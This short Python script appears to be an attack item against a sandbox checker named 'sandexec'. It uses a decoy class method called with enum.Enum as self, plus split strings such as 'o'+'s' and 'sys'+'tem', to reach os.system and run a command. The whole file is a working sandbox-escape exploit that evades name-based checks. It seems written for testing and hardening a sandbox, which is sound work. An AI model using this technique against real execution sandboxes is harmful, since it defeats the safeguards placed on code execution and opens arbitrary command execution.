# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 4 private-name decoy; variant written with the fix: the decoy is the script's own method, called through the class with a library object as self
# goal: enum.Enum._convert_ reads sys.modules["os"].__dict__ -> os.system('id')
import enum
import json


class Decoy:
    def _convert_(self, *args):
        return None

    def run(self, *args):
        return self._convert_(*args)


E = Decoy.run(enum.Enum, "E", "o" + "s", lambda n: n == "sys" + "tem")
rc = E["sys" + "tem"].value("id")
print(json.dumps({"rc": rc}))
